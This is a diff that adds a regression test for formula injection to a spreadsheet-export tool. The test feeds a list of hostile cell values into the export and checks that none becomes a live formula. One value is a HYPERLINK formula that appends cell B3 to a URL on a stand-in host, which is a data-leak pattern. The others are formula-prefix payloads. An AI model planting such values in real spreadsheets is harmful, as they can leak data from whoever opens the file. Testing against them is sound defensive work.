@@ -307,3 +307,33 @@ def test_cli_export_writes_the_workbook_and_exits_2_on_unknown_org_or_round(
     err = capsys.readouterr().err
     assert "no agency with code 'NOPE'" in err
     assert "DEMO-PROV has no round 99" in err
+
+
+# Formula injection (issue 12, defect 2) --------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://x/?"&B3,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_text_a_person_typed_is_never_a_formula_and_shows_as_written() -> None:
+    respondents = tuple(_respondent(40 + i, name, FULL) for i, name in enumerate(HOSTILE))
+    report = RoundReport(8, HOSTILE[0], date(2026, 10, 1), date(2027, 3, 31), "=EVIL", "=1+1 agency",
+                         (AgencyRound(4, "=CODE", '=HYPERLINK("http://x","y")', None, 0, 1, respondents),), {}, None)
+    data = build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets
+        for name in sheets:
+            assert "<f>" not in archive.read(name).decode("utf-8"), name
+    workbook = _open(data)
+    shown = set()
+    for name in SHEETS:
+        for row in workbook[name].iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    shown.add(cell.value)
+    assert HOSTILE[0] in shown and '=HYPERLINK("http://x","y")' in shown
+    assert any("=1+1 agency" in text for text in shown)
+    text = "\n".join(shown)
+    for name in HOSTILE[1:]:
+        assert name.strip() in text
